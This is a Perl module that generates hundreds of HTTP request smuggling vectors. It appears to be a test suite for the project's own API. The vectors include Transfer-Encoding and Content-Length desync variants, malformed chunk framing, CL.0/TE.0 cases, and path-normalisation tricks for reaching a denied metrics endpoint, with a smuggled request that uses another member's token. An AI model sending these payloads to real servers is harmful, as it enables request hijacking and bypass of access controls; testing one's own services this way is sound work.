# The published vectors of HTTP request smuggling over HTTP/1.1, one row each (over HTTP/2: Collab::SmugglingH2).
#
#   for (vectors()) { my ($name, $head, $body, $two) = @$_; print $socket filled($head, $body, k => 'h1-7', …) }
#
# The sources, by title:
#   Linhart, Klein, Heled, Orrin: HTTP Request Smuggling (Watchfire, 2005)
#   Kettle: HTTP Desync Attacks: Request Smuggling Reborn (2019); Browser-Powered Desync Attacks (2022: CL.0); HTTP/1.1 Must Die: The
#     Desync Endgame (2025: 0.CL, Expect)
#   Klein: HTTP Request Smuggling in 2020 – New Variants, New Defenses and New Challenges
#   defparam/smuggler, configs/exhaustive.py (spellings of Transfer-Encoding)
#   Jeppe Bonde Weikop: Funky Chunks: Abusing ambiguous chunk line terminators for request smuggling (2025)
#   Kallus and others: The HTTP Garden (2024), and its issues against servers (sizes with 0x, signs, empty sizes, oversized chunks)
#   Arnolfo and others: TE.0 HTTP Request Smuggling (2024)
#   Http11Probe, category Smuggling; RFC 9112, 5 to 7 and 11.2
#   Miller: h2c Smuggling: Request Smuggling Via HTTP/2 Cleartext (2020); 0ang3el: Websocket Smuggling (2019)
#   Tsai: Breaking Parser Logic: Take Your Path Normalization Off and Pop 0days Out (2018)
#
# In a row, \n stands for CR LF; <LF> and <CR> for one of them; <XX> for a byte in hexadecimal; <k> for the number of the case.
# <S>: the smuggled request, another member's note; <P>: the beginning of a request, whose last header swallows what follows;
# <J>: a valid note, <chunks>: the same in chunks; <D>: a note as part of a body.
# <all>, <note>: the lengths of the body and of <J>, in decimal. <n>, <hex>, <hexS0>: the lengths of <D>, of <S>, and of <S> with the last chunk,
# in hexadecimal. <size>: the length of the line <hex>.
# If some reading of a row gives the first request a body that is not a note, the row goes to a path that does not exist. Its answer is then 404,
# after which httpd keeps the connection open, unlike after 400. `two`: a correct server may serve the bytes after the body as a second request,
# because the message is well-formed, or because its flaw cannot change where the message ends.
package Collab::SmugglingVectors;
use strict;
use warnings;
use Exporter 'import';
our @EXPORT = qw(vectors filled);

# Spellings of Transfer-Encoding. Each is sent twice: for a front that ends the body by its length, and for one that ends it by its chunks.
my @spellings = (
  ['both lengths',                    "Transfer-Encoding: chunked"],
  ['blank before the colon',          "Transfer-Encoding : chunked"],
  ['tab before the colon',            "Transfer-Encoding<09>: chunked"],
  ['tab after the colon',             "Transfer-Encoding:<09>chunked"],
  ['tabs around the colon',           "Transfer-Encoding<09>:<09>chunked"],
  ['no blank after the colon',        "Transfer-Encoding:chunked"],
  ['two blanks after the colon',      "Transfer-Encoding:  chunked"],
  ['blank at the end',                "Transfer-Encoding: chunked "],
  ['tab at the end',                  "Transfer-Encoding: chunked<09>"],
  ['VT before the value',             "Transfer-Encoding:<0b>chunked"],
  ['VT behind the value',             "Transfer-Encoding: chunked<0b>"],
  ['FF before the value',             "Transfer-Encoding:<0c>chunked"],
  ['NUL behind the value',            "Transfer-Encoding: chunked<00>"],
  ['NUL in the name',                 "Transfer-Encoding<00>: chunked"],
  ['NBSP before the value',           "Transfer-Encoding:<a0>chunked"],
  ['0xFF before the value',           "Transfer-Encoding:<ff>chunked"],
  ['a letter of 8 bits in the value', "Transfer-Encoding: ch<96>nked"],
  ['a letter of 8 bits in the name',  "Transf<82>r-Encoding: chunked"],
  ['CR behind the value',             "Transfer-Encoding: chunked<CR>"],
  ['CR in the name',                  "Transfer<CR>-Encoding: chunked"],
  ['LF before the colon',             "Transfer-Encoding<LF>: chunked"],
  ['behind a CR in another header',   "X: X<CR>Transfer-Encoding: chunked"],
  ['behind an LF in another header',  "X: X<LF>Transfer-Encoding: chunked"],
  ['behind a line with only a CR',    "X: X\n<CR>Transfer-Encoding: chunked"],
  ['on a folded line',                "Transfer-Encoding:\n chunked"],
  ['on a line folded by LF',          "Transfer-Encoding:<LF> chunked"],
  ['on a line folded by a tab',       "Transfer-Encoding:\n<09>chunked"],
  ['folded onto another header',      "X: X\n Transfer-Encoding: chunked", 'two'],
  ['folded behind identity',          "Transfer-Encoding: identity\n , chunked"],
  ['xchunked',                        "Transfer-Encoding: xchunked"],
  ['chunk',                           "Transfer-Encoding: chunk"],
  ['upper and lower case',            "TrAnSFer-EnCODinG: cHuNkeD"],
  ['quoted',                          "Transfer-Encoding: \"chunked\""],
  ['in apostrophes',                  "Transfer-Encoding: 'chunked'"],
  ['with a parameter',                "Transfer-Encoding: chunked;ext=val"],
  ['empty parameter',                 "Transfer-Encoding: chunked;"],
  ['chunked, identity',               "Transfer-Encoding: chunked, identity"],
  ['identity, chunked',               "Transfer-Encoding: identity, chunked"],
  ['identity',                        "Transfer-Encoding: identity"],
  ['chunked, cow',                    "Transfer-Encoding: chunked, cow"],
  ['cow, chunked',                    "Transfer-Encoding: cow, chunked"],
  ['cow chunked bar',                 "Transfer-Encoding: cow chunked bar"],
  ['gzip, chunked',                   "Transfer-Encoding: gzip, chunked"],
  ['chunked, chunked',                "Transfer-Encoding: chunked, chunked"],
  ['comma in front',                  "Transfer-Encoding: , chunked"],
  ['comma behind',                    "Transfer-Encoding: chunked,"],
  ['empty',                           "Transfer-Encoding:"],
  ['empty, then chunked',             "Transfer-Encoding:\nTransfer-Encoding: chunked"],
  ['chunked, then identity',          "Transfer-Encoding: chunked\nTransfer-Encoding: identity"],
  ['identity, then chunked',          "Transfer-Encoding: identity\nTransfer-Encoding: chunked"],
  ['cow, then chunked',               "Transfer-Encoding: cow\nTransfer-Encoding: chunked"],
  ['chunked twice',                   "Transfer-Encoding: chunked\nTransfer-Encoding: chunked"],
  ['the second one misspelt',         "Transfer-Encoding: chunked\nTransfer-encoding : x"],
  ['with an underscore',              "Transfer_Encoding: chunked", 'two'],
  ['with a blank',                    "Transfer Encoding: chunked"],
  ['without a colon',                 "Transfer-Encoding chunked"],
  ['named in Connection',             "Connection: Transfer-Encoding\nTransfer-Encoding: chunked"],
  ['the length named in Connection',  "Connection: Content-Length\nTransfer-Encoding: chunked"],
);

# Forms of Content-Length: name, header lines, body.
my @lengths = (
  ['two lengths, the first short',   "Content-Length: <note>\nContent-Length: <all>", '<J><S>'],
  ['two lengths, the first long',    "Content-Length: <all>\nContent-Length: <note>", '<J><S>'],
  ['two lengths, 0 first',           "Content-Length: 0\nContent-Length: <all>",      '<S>'],
  ['two lengths, 0 last',            "Content-Length: <all>\nContent-Length: 0",      '<S>'],
  ['the same length twice',          "Content-Length: <all>\nContent-Length: <all>",  '<S>'],
  ['a list of the same',             "Content-Length: <all>, <all>",                  '<S>'],
  ['a list of two',                  "Content-Length: <note>, <all>",                 '<J><S>'],
  ['a list that begins empty',       "Content-Length: , <all>",                       '<S>'],
  ['two numbers',                    "Content-Length: <note> <all>",                  '<J><S>'],
  ['plus',                           "Content-Length: +<all>",                        '<S>'],
  ['minus',                          "Content-Length: -<all>",                        '<S>'],
  ['minus 0',                        "Content-Length: -0",                            '<S>'],
  ['zeros in front',                 "Content-Length: 0000<all>",                     '<S>'],
  ['hexadecimal',                    "Content-Length: 0x<hex>",                       '<S>'],
  ['a fraction',                     "Content-Length: <all>.0",                       '<S>'],
  ['an exponent',                    "Content-Length: <note>e1",                      '<J><S>'],
  ['digits with an underscore',      "Content-Length: <note>_0",                      '<J><S>'],
  ['a parameter',                    "Content-Length: <note>;x",                      '<J><S>'],
  ['quoted',                         "Content-Length: \"<all>\"",                     '<S>'],
  ['empty',                          "Content-Length:",                               '<S>'],
  ['empty, then a length',           "Content-Length:\nContent-Length: <all>",        '<S>'],
  ['blanks around it',               "Content-Length:   <all>   ",                    '<S>'],
  ['a tab before it',                "Content-Length:<09><all>",                      '<S>'],
  ['VT before it',                   "Content-Length:<0b><all>",                      '<S>'],
  ['VT behind it',                   "Content-Length: <all><0b>",                     '<S>'],
  ['NUL behind it',                  "Content-Length: <note><00>0",                   '<J><S>'],
  ['CR behind it',                   "Content-Length: <note><CR>0",                   '<J><S>'],
  ['2^64 too much',                  "Content-Length: 18446744073709551616",          '<S>'],
  ['2^32 too much',                  "Content-Length: 4294967296",                    '<S>'],
  ['2^63',                           "Content-Length: 9223372036854775808",           '<S>'],
  ['blank before the colon',         "Content-Length : <all>",                        '<S>'],
  ['tab before the colon',           "Content-Length<09>: <all>",                     '<S>'],
  ['with an underscore',             "Content_Length: <all>",                         '<S>', 'two'],
  ['on a folded line',               "Content-Length:\n <all>",                       '<S>'],
  ['folded in the middle',           "Content-Length: 0\n <all>",                     '<S>'],
  ['folded onto another header',     "X: X\n Content-Length: <all>",                  '<S>', 'two'],
  ['behind an LF',                   "X: X<LF>Content-Length: <all>",                 '<S>'],
  ['behind a CR',                    "X: X<CR>Content-Length: <all>",                 '<S>'],
  ['a CR alone ends the headers',    "X: X\n<CR>Content-Length: <all>",               '<S>'],
  ['named in Connection',            "Connection: close, Content-Length\nContent-Length: <all>", '<S>'],
  ['more than is sent',              "Content-Length: 4000",                          '<J>'],
);

# Requests that a server may answer without reading the body: name, request line and headers. Each is sent with three bodies: the smuggled
# request with Content-Length, the beginning of a request with Content-Length, and the smuggled request in a chunk.
my @unread = (
  ['GET',                  "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>"],
  ['HEAD',                 "HEAD /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>"],
  ['OPTIONS',              "OPTIONS <notes>?vector=<k> HTTP/1.1\nHost: <host>"],
  ['DELETE',               "DELETE /v2/webhooks/1?vector=<k> HTTP/1.1\nHost: <host>\n<auth>"],
  ['no such path',         "POST /nothing?vector=<k> HTTP/1.1\nHost: <host>\n<auth>"],
  ['no such method',       "POST /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>"],
  ['an unknown method',    "BREW <notes>?vector=<k> HTTP/1.1\nHost: <host>\n<auth>"],
  ['no token',             "POST <notes>?vector=<k> HTTP/1.1\nHost: <host>"],
  ['another media type',   "POST <notes>?vector=<k> HTTP/1.1\nHost: <host>\n<authorization>\nContent-Type: text/plain"],
  ['a page',               "GET /docs?vector=<k> HTTP/1.1\nHost: <host>"],
  ['the base URL',         "GET /?vector=<k> HTTP/1.1\nHost: <host>\nAccept: text/html"],
  ['health',               "POST /health/live?vector=<k> HTTP/1.1\nHost: <host>"],
  ['a list',               "GET /v2/collaboration-requests/list?vector=<k>&updatedAfter=2026-01-01T00:00:00Z HTTP/1.1\nHost: <host>\n<auth>"],
  ['a bad escape',         "GET /v1/partners/%zz?vector=<k> HTTP/1.1\nHost: <host>\n<auth>"],
  ['no such request',      "GET /v1/collaboration-requests/none?vector=<k> HTTP/1.1\nHost: <host>\n<auth>"],
  ['not modified',         "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nIf-None-Match: *"],
  ['a bad idempotency key', "POST <notes>?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nIdempotency-Key: \"\""],
  ['an unknown expectation', "POST <notes>?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nExpect: wonders"],
  ['100-continue',         "POST <notes>?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nExpect: 100-continue"],
  ['100-continue without a token', "POST <notes>?vector=<k> HTTP/1.1\nHost: <host>\nExpect: 100-continue"],
  ['100-continue of a GET', "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nExpect: 100-continue"],
  ['100-continue misspelt', "POST <notes>?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nExpect: y 100-continue"],
  ['100-continue folded',  "POST <notes>?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nExpect:\n 100-continue"],
  ['100-continue twice',   "POST <notes>?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nExpect: 100-continue\nExpect: 100-continue"],
  ['HTTP/1.0',             "POST <notes>?vector=<k> HTTP/1.0\nHost: <host>\n<auth>\nConnection: keep-alive"],
  ['Upgrade: h2c',         "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\nConnection: Upgrade, HTTP2-Settings"],
  ['Upgrade: websocket',   "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nUpgrade: websocket\nConnection: Upgrade\nSec-WebSocket-Version: 777\nSec-WebSocket-Key: nf6dB8Pb/BLinZ7UexUXHg=="],
  ['Upgrade: TLS/1.0',     "OPTIONS /v1/me?vector=<k> HTTP/1.1\nHost: <host>\nUpgrade: TLS/1.0\nConnection: Upgrade"],
);

# Bodies of `Transfer-Encoding: chunked`. Each is sent twice: to the notes, and to a path that does not exist.
my @chunks = (
  ['TERM.EXT with LF',              "3;<LF>xxx\n<hexS0>\n0\n\n<S>\n0\n\n"],
  ['TERM.EXT with CR',              "3;<CR>xxx\n<hexS0>\n0\n\n<S>\n0\n\n"],
  ['TERM.EXT without a semicolon',  "3<LF>xxx\n<hexS0>\n0\n\n<S>\n0\n\n"],
  ['EXT.TERM with LF',              "3;<LF>xxx\n0\n\n<S>"],
  ['EXT.TERM with CR',              "3;<CR>xxx\n0\n\n<S>"],
  ['EXT.TERM, LF in a quoted value', "3;a=\"<LF>\"\nxxx\n0\n\n<S>"],
  ['a line end in a quoted value',  "<n>;a=\"\n<D>\n0\n\n<S>\"\n0\n\n", 'two'],
  ['TERM.SPILL',                    "3\nxxx<LF><hexS0>\n0\n\n<S>\n0\n\n"],
  ['SPILL.TERM',                    "<n>\n<D>YY0\n\n<S>"],
  ['ONE.TWO',                       "3\nxxx<LF>X0\n\n<S>"],
  ['TWO.ONE',                       "<n>\n<D><LF>0\n\n<S>"],
  ['ZERO.TWO',                      "<n>\n<D>0\n\n<S>"],
  ['CR behind the data',            "<n>\n<D><CR>0\n\n<S>"],
  ['longer than its size',          "<n>\n<D>xx<D>\n0\n\n<S>"],
  ['LF in the last chunk',          "<n>\n<D>\n0<LF><LF><S>"],
  ['LF behind the last chunk',      "<n>\n<D>\n0\n<LF><S>"],
  ['LF everywhere',                 "<n><LF><D><LF>0<LF><LF><S>"],
  ['an empty size ends it',         "<n>\n<D>\n\n\n<S>"],
  ['hexadecimal with 0x',           "0x<hex>\n<S>\n0\n\n"],
  ['hexadecimal with 0X',           "0X<hex>\n<S>\n0\n\n"],
  ['0x0 ends it',                   "<n>\n<D>\n0x0\n\n<S>"],
  ['minus',                         "-<hex>\n<S>\n0\n\n"],
  ['minus 0',                       "<n>\n<D>\n-0\n\n<S>"],
  ['plus',                          "+<hex>\n<S>\n0\n\n"],
  ['a blank before the size',       " <n>\n<D>\n0\n\n<S>"],
  ['a blank behind the size',       "<n> \n<D>\n0\n\n<S>", 'two'],
  ['a tab behind the size',         "<n><09>\n<D>\n0\n\n<S>", 'two'],
  ['VT behind the size',            "<n><0b>\n<D>\n0\n\n<S>"],
  ['NUL behind the size',           "<n><00>0\n<D>\n0\n\n<S>"],
  ['an underscore in the size',     "0_<hex>\n<S>\n0\n\n"],
  ['two sizes',                     "3 <hex>\nxxx\n0\n\n<S>"],
  ['bytes behind the size',         "<n>these\n<D>\n0\n\n<S>"],
  ['no digit',                      "g\n<D>\n0\n\n<S>"],
  ['quoted',                        "\"<n>\"\n<D>\n0\n\n<S>"],
  ['many zeros',                    "00000000000000000000000000000000<n>\n<D>\n0\n\n<S>", 'two'],
  ['many zeros at the end',         "<n>\n<D>\n00000000000000000000\n\n<S>", 'two'],
  ['2^64 too much',                 "100000000000000<n>\n<D>\n0\n\n<S>"],
  ['2^64 ends it',                  "<n>\n<D>\n10000000000000000\n\n<S>"],
  ['2^32 too much',                 "1000000<n>\n<D>\n0\n\n<S>"],
  ['2^64 - 1',                      "FFFFFFFFFFFFFFFF\n<D>\n0\n\n<S>"],
  ['2^64 - 2',                      "FFFFFFFFFFFFFFFE\n<D>\n0\n\n<S>"],
  ['2^63',                          "8000000000000000\n<D>\n0\n\n<S>"],
  ['2^31',                          "80000000\n<D>\n0\n\n<S>"],
  ['an extension',                  "<n>;a=b\n<D>\n0\n\n<S>", 'two'],
  ['an extension of NUL',           "<n>;<00>\n<D>\n0\n\n<S>"],
  ['an extension of 9 KB',          "<n>;" . 'a' x 9000 . "\n<D>\n0\n\n<S>", 'two'],
  ['a length as trailer',           "<n>\n<D>\n0\nContent-Length: <hex>\n\n<S>", 'two'],
  ['a coding as trailer',           "<n>\n<D>\n0\nTransfer-Encoding: chunked\n\n<S>", 'two'],
  ['a token as trailer',            "<n>\n<D>\n0\n<other>\nHost: other\n\n<S>", 'two'],
  ['a request as trailer',          "<n>\n<D>\n0\n<S>"],
  ['the beginning of a request as trailer', "<n>\n<D>\n0\n<P>"],
  ['LF in the trailer',             "<n>\n<D>\n0\nX: X<LF><LF><S>"],
  ['CR in the trailer',             "<n>\n<D>\n0\nX: X<CR><CR><S>"],
  ['no end',                        "<n>\n<D>\n"],
);

# Variants of the request line and Host, in requests without a body. In some rows <S> follows what a tolerant server takes for the
# request's end.
my @heads = (
  ['absolute form, another host',   "GET http://other.example/v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\n\n"],
  ['absolute form, Host differs',   "GET http://<host>/v1/me?vector=<k> HTTP/1.1\nHost: other.example\n<auth>\n\n"],
  ['absolute form, a user',         "GET http://<host>\@other.example/v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\n\n"],
  ['absolute form, another scheme', "GET ftp://<host>/v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\n\n"],
  ['two slashes, a host',           "GET //other.example/v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\n\n"],
  ['two hosts',                     "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\nHost: other.example\n<auth>\n\n"],
  ['two hosts, the first folded',   "GET /v1/me?vector=<k> HTTP/1.1\n Host: other.example\nHost: <host>\n<auth>\n\n"],
  ['a blank before the colon',      "GET /v1/me?vector=<k> HTTP/1.1\nHost : <host>\n<auth>\n\n"],
  ['no host',                       "GET /v1/me?vector=<k> HTTP/1.1\n<auth>\n\n"],
  ['an empty host',                 "GET /v1/me?vector=<k> HTTP/1.1\nHost:\n<auth>\n\n"],
  ['a list of hosts',               "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>, other.example\n<auth>\n\n"],
  ['a host with a path',            "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>/x\n<auth>\n\n"],
  ['a host with a user',            "GET /v1/me?vector=<k> HTTP/1.1\nHost: x\@<host>\n<auth>\n\n"],
  ['a blank in the path',           "GET /v1/me?vector=<k> HTTP/1.1\n HTTP/1.1\nHost: <host>\n<auth>\n\n"],
  ['a version in the path',         "GET /v1/me?vector=<k> HTTP/1.1 x HTTP/1.1\nHost: <host>\n<auth>\n\n"],
  ['a CR in the request line',      "GET /v1/me?vector=<k><CR>x HTTP/1.1\nHost: <host>\n<auth>\n\n"],
  ['an LF ends the request line',   "GET /v1/me?vector=<k> HTTP/1.1<LF>Host: <host>\n<auth>\n\n"],
  ['a tab in the request line',     "GET<09>/v1/me?vector=<k><09>HTTP/1.1\nHost: <host>\n<auth>\n\n"],
  ['NUL in the request line',       "GET /v1/me?vector=<k><00> HTTP/1.1\nHost: <host>\n<auth>\n\n"],
  ['a blank in front',              " GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\n\n"],
  ['empty lines in front',          "\n\nGET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\n\n"],
  ['lower case',                    "GET /v1/me?vector=<k> http/1.1\nHost: <host>\n<auth>\n\n"],
  ['a long version',                "GET /v1/me?vector=<k> HTTP/01.1\nHost: <host>\n<auth>\n\n"],
  ['HTTP/1.2',                      "GET /v1/me?vector=<k> HTTP/1.2\nHost: <host>\n<auth>\n\n"],
  ['HTTP/2.0',                      "GET /v1/me?vector=<k> HTTP/2.0\nHost: <host>\n<auth>\nContent-Length: <all>\n\n<S>"],
  ['HTTP/0.9',                      "GET /v1/me?vector=<k>\n<S>"],
  ['HTTP/0.9 with an LF',           "GET /v1/me?vector=<k><LF><S>"],
  ['the preface of HTTP/2',         "PRI * HTTP/2.0\n\nSM\n\n<00><00><00><04><00><00><00><00><00>"],
  ['LF ends the headers',           "POST <notes>?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nContent-Length: <all>\n<LF><S>"],
  ['LF LF in a header',             "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nX: X<LF><LF><S>"],
  ['CR CR in a header',             "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nX: X<CR><CR><S>"],
  ['Upgrade: h2c',                  "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\nConnection: Upgrade, HTTP2-Settings\n\n"],
  ['Upgrade: h2c, not in Connection', "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\n\n"],
  ['Upgrade: h2c, settings not in Connection', "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\nConnection: Upgrade\n\n"],
  ['Upgrade: websocket, h2c',       "GET /v1/me?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\nUpgrade: websocket, h2c\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\nConnection: Upgrade, HTTP2-Settings\nSec-WebSocket-Version: 777\n\n"],
  ['CONNECT',                       "CONNECT <host> HTTP/1.1\nHost: <host>\n<auth>\n\n"],
  ['TRACE',                         "TRACE /v1/me?vector=<k> HTTP/1.1\nHost: <host>\nMax-Forwards: 0\n\n"],
);

# Paths that front and back may read differently. The fronts deny /the-metrics, which the httpd behind them serves.
my @paths = (
  '/the-metrics', '/the-metrics/', '//the-metrics', '/./the-metrics', '/%74he-metrics', '/%2574he-metrics', '/the-metrics%00', '/the-metrics%2f',
  '/the-metrics%20', '/the-metrics;x', '/the-metrics%3b', '/the-metrics%3fx', '/the-metrics%23', '/THE-METRICS', '/%2fthe-metrics', '\\the-metrics',
  '/\\the-metrics', '/%5cthe-metrics', '/v1/../the-metrics', '/v1/..%2fthe-metrics', '/v1/%2e%2e/the-metrics', '/v1/%2e%2e%2fthe-metrics',
  '/v1/%252e%252e/the-metrics', '/v1/..;/the-metrics', '/v1/..;x/the-metrics', '/v1/..\\the-metrics', '/v1/..%5cthe-metrics', '/v1/.;/../the-metrics',
  '/v1//../the-metrics', '/v1/me/../../the-metrics', '/v1/me%2f..%2f..%2fthe-metrics', '/v1/%00/../../the-metrics', '/v1/.%2e/the-metrics',
  '/v1/%2e./the-metrics', '/v1/..%00/the-metrics', '/v1/..%0d/the-metrics', '/v1/%c0%ae%c0%ae/the-metrics', '/docs/..//the-metrics', '/x/../the-metrics#',
  '//v1/me', '/v1//me', '/v1/./me', '/v1/x/../me', '/v1/me%00', '/v1/me%2f', '/v1%2fme', '/v1/me;x', '/v1/..;/v1/me', '/v1\\me', '/v1/me#x', '*',
);

sub post    { my ($framing) = @_; return "POST <notes>?vector=<k> HTTP/1.1\nHost: <host>\n<auth>\n$framing\n\n" }
sub nowhere { my ($framing) = @_; return "POST /nothing?vector=<k> HTTP/1.1\nHost: <host>\n$framing\n\n" }

sub vectors {
  my @vectors;
  for (@spellings) {
    my ($name, $te, $two) = @$_;
    push @vectors, ["CL.TE, $name", post("$te\nContent-Length: <all>"), '<chunks><S>'],
      ["TE.CL, $name", nowhere("Content-Length: <size>\n$te"), "<hex>\n<S>\n0\n\n", $two];
  }
  push @vectors, ['CL.TE, a prefix', post("Content-Length: <all>\nTransfer-Encoding: chunked"), '<chunks><P>'];
  push @vectors, ['CL.TE, as a Content-Encoding', post("Content-Length: <all>\nContent-Encoding: chunked"), '<chunks><S>'];
  push @vectors, map { ["Content-Length: $_->[0]", $_->[2] =~ /^<J>/ ? post($_->[1]) : nowhere($_->[1]), @$_[2, 3]] } @lengths;
  for (@unread) {
    my ($name, $head) = @$_;
    push @vectors, ["CL.0, $name", "$head\nContent-Length: <all>\n\n", '<S>'], ["CL.0, $name, a prefix", "$head\nContent-Length: <all>\n\n", '<P>'],
      ["TE.0, $name", "$head\nTransfer-Encoding: chunked\n\n", "<hex>\n<S>\n0\n\n"];
  }
  push @vectors, map { (["chunks: $_->[0]", post('Transfer-Encoding: chunked'), @$_[1, 2]], ["chunks nowhere: $_->[0]", nowhere('Transfer-Encoding: chunked'), @$_[1, 2]]) } @chunks;
  push @vectors, map { ["head: $_->[0]", $_->[1], ''] } @heads;
  push @vectors, map { my ($before, $fragment) = split /(?=#)/; ["path: $_", "GET $before?vector=<k>" . ($fragment // '') . " HTTP/1.1\nHost: <host>\n<auth>\n\n", ''] } @paths;
  return @vectors;
}

# A vector's head and body with all placeholders filled. %value has those that are not computed (k, host, notes, authorization, other).
sub filled {
  my ($head, $body, %value) = @_;
  my $note = sub { return qq({"summary":"$_[0]","description":"d","priority":"LOW"}) };
  my $smuggled = $note->("smuggled-$value{k}");
  my $fill = sub { my ($text, %with) = @_; return plain($text) =~ s/<(\w+)>/exists $with{$1} ? $with{$1} : "<$1>"/ger };
  $value{auth} = "$value{authorization}\r\nContent-Type: application/json";
  $value{J} = $note->("vector-$value{k}");
  $value{D} = $value{J};
  $value{note} = length $value{J};
  $value{n} = sprintf '%x', $value{note};
  $value{chunks} = sprintf "%x\r\n%s\r\n0\r\n\r\n", length $value{J}, $value{J};
  $value{S} = $fill->("POST <notes>?smuggled=<k> HTTP/1.1\nHost: <host>\n<other>\nContent-Type: application/json\nContent-Length: " . length($smuggled)
    . "\n\n$smuggled", %value);
  $value{P} = $fill->("GET /v1/me?smuggled=<k> HTTP/1.1\nHost: <host>\n<other>\nX-Swallow: ", %value);
  $value{hex} = sprintf '%x', length $value{S};
  $value{hexS0} = sprintf '%x', 5 + length $value{S};
  $value{size} = 2 + length $value{hex};
  $body = $fill->($body, %value);
  my ($rest) = $head =~ /\n\n(.+)\z/s;      # a body given in the head
  $value{all} = length(length $body ? $body : $fill->($rest // '', %value));
  return ($fill->($head, %value), $body);
}

# Replaces the placeholders of line ends and bytes.
sub plain { my ($text) = @_; $text =~ s/\n/\r\n/g; $text =~ s/<LF>/\n/g; $text =~ s/<CR>/\r/g; $text =~ s/<([0-9a-f]{2})>/chr hex $1/ge; return $text }

1;
